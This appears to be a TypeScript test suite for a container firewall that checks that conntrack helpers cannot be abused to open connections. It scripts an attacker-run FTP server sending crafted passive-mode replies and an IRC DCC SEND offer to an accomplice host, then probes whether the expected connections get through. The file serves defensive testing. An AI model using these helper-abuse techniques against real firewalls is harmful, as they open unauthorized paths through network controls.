/**
 * Conntrack's helpers read FTP, IRC and the like, and expect further connections. Kernels give them to nobody by
 * themselves any more (Linux 6.0); here the host's administrator has asked for them.
 */
import { waitFor } from '../lab/process.js';
import { where } from './raw.js';
import { type Attempt, attackSuite, PERMITTED, program, seen } from './technique.js';

const ACCOMPLICE = { v4: '93.184.3.1', v6: '2600:9000:3::1' } as const;
const EXPECTED = 'RELATED connections from conntrack helpers are not allowed: only ICMP errors are';
/** Each attempt has its own: what another expects is not taken for it. */
const ports = new Map<string, number>();
const portOf = (a: Attempt): number => {
  const port = ports.get(a.tag) ?? 2501 + ports.size;
  ports.set(a.tag, port);
  return port;
};
const called = new Map<string, boolean>();

/** Conntrack's expectations at the host that name the port. */
const expects = async (a: Attempt, port: number): Promise<boolean> => {
  const family = a.family === 'v4' ? 'ipv4' : 'ipv6';
  const { stdout } = await a.lab.inHost(['conntrack', '-L', 'expect', '-f', family], { check: true });
  return stdout.includes(`dport=${port} `);
};
const passive = (a: Attempt, port: number): string =>
  a.family === 'v4'
    ? `227 Entering Passive Mode (${ACCOMPLICE.v4.replaceAll('.', ',')},${port >> 8},${port & 255})\r\n`
    : `229 Entering Extended Passive Mode (|||${port}|)\r\n`;
const asInteger = (v4: string): number => v4.split('.').reduce((n, x) => n * 256 + Number(x), 0);

attackSuite(
  'conntrack helpers',
  {
    attacker: {
      labels: {
        'drawbridge.allow': `${PERMITTED.v4}:80, [${PERMITTED.v6}]:80, ${ACCOMPLICE.v4}:21, [${ACCOMPLICE.v6}]:21, ${ACCOMPLICE.v4}:6667`,
      },
    },
    prepare: async (lab) => {
      const give = (tool: string, port: number, helper: string): Promise<unknown> =>
        lab.inHost(
          [
            tool,
            '-t',
            'raw',
            '-A',
            'PREROUTING',
            '-p',
            'tcp',
            '--dport',
            `${port}`,
            '-j',
            'CT',
            '--helper',
            helper,
          ],
          { check: true },
        );
      for (const tool of ['iptables', 'ip6tables']) await give(tool, 21, 'ftp');
      await give('iptables', 6667, 'irc');
    },
  },
  [
    {
      id: 'helper-ftp',
      title: 'an FTP server, run by the attacker, that announces a data port',
      stoppedBy: EXPECTED,
      families: ['v4', 'v6'],
      attack: async (a) => {
        const port = portOf(a);
        const talk = program(
          a,
          'helper.mjs',
          ACCOMPLICE[a.family],
          21,
          JSON.stringify({
            lines: ['220 hello\r\n', passive(a, port)],
            next: { host: ACCOMPLICE[a.family], port },
            text: a.tag,
          }),
        );
        await waitFor('the expectation', () => expects(a, port));
        await talk;
      },
      reached: (a) => seen(a, { dst: ACCOMPLICE[a.family], dport: portOf(a) }),
    },
    {
      id: 'helper-irc',
      title: 'an IRC client that offers a file, which makes the helper expect a connection from any address',
      stoppedBy: EXPECTED,
      families: ['v4'],
      attack: async (a) => {
        const port = portOf(a);
        const own = asInteger((await where(a)).ip4);
        const offer = `PRIVMSG you :\u0001DCC SEND secret ${own} ${port}\u0001\r\n`;
        const talk = program(
          a,
          'helper.mjs',
          ACCOMPLICE.v4,
          6667,
          JSON.stringify({ lines: [offer], listen: port, text: a.tag }),
        );
        await waitFor('the expectation', () => expects(a, port));
        const r = await a.lab.probeFromNet(
          'tcp',
          a.lab.addresses.host4,
          port,
          'here I am',
          '--timeout',
          3000,
        );
        called.set(a.tag, r.data === a.tag);
        await talk;
      },
      reached: async (a) => called.get(a.tag) === true,
    },
  ],
);
